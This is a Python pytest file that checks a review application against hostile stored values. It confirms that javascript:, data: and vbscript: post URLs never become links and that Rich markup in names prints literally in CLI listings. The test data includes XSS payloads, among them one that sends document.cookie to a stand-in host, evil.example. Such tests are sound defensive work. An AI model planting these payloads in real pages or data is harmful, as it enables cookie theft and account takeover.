"""Stored values as an attacker writes them: a post URL that runs script when clicked, and rich
markup in a name that used to break (or restyle) the CLI's listings."""

from __future__ import annotations

import pytest
from sqlalchemy.orm import Session
from typer.testing import CliRunner

from pipeline import review
from pipeline.cli import app
from pipeline.cli.common import console
from pipeline.privacy import holds
from pipeline.web.rendering import web_link
from tests.factories import World

cli = CliRunner()
HOSTILE_URLS = [
    "javascript:alert(document.cookie)",
    "JavaScript:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//evil.example/x",
    "https:alert(1)",
]


@pytest.mark.parametrize("url", HOSTILE_URLS)
def test_only_web_addresses_become_links(url: str) -> None:
    assert web_link(url) is None


def test_a_web_address_stays_a_link() -> None:
    assert web_link("https://mastodon.example/@ana/1") == "https://mastodon.example/@ana/1"
    assert web_link("http://feeds.example/post?id=1") == "http://feeds.example/post?id=1"


def test_a_javascript_post_url_is_shown_as_text_on_the_flag_page(browser, make, db) -> None:
    account = make.account(kind="official", org_unit="Comms")
    post = make.post(account, "Official notice")
    post.url = "javascript:fetch('//evil.example/'+document.cookie)"
    flag = make.flag(post)
    reviewer = make.user("reviewer")
    db.commit()
    review.claim_next(db, reviewer)
    db.commit()
    client = browser()
    client.login(reviewer.email)

    page = client.client.get(f"/flags/{flag.id}")

    assert page.status_code == 200
    assert 'href="javascript:' not in page.text.replace(" ", "")
    assert "not a web address: not a link" in page.text


@pytest.mark.parametrize("hostile", ["[/]", "[bold]Ana[/bold]", "[link=http://evil]x"])
def test_rich_markup_in_stored_values_is_printed_as_written(
    hostile: str, world: World, db: Session, monkeypatch
) -> None:
    monkeypatch.setattr(console, "width", 400)  # one line per row: the value is not folded
    person = world.person("ana", org_unit=f"Unit {hostile}")
    person.display_name = f"Ana {hostile}"
    world.account(person)
    holds.place_hold(db, person.email, reason=f"grievance {hostile}", actor="test")
    db.commit()
    for command in (["people", "list"], ["hold", "list"], ["accounts", "list"]):
        result = cli.invoke(app, command)
        assert result.exit_code == 0, (command, result.output)
        assert hostile in result.output, command
    unknown = cli.invoke(app, ["export", "person", f"nobody{hostile}@example.org"])
    assert unknown.exit_code == 2 and hostile in unknown.output
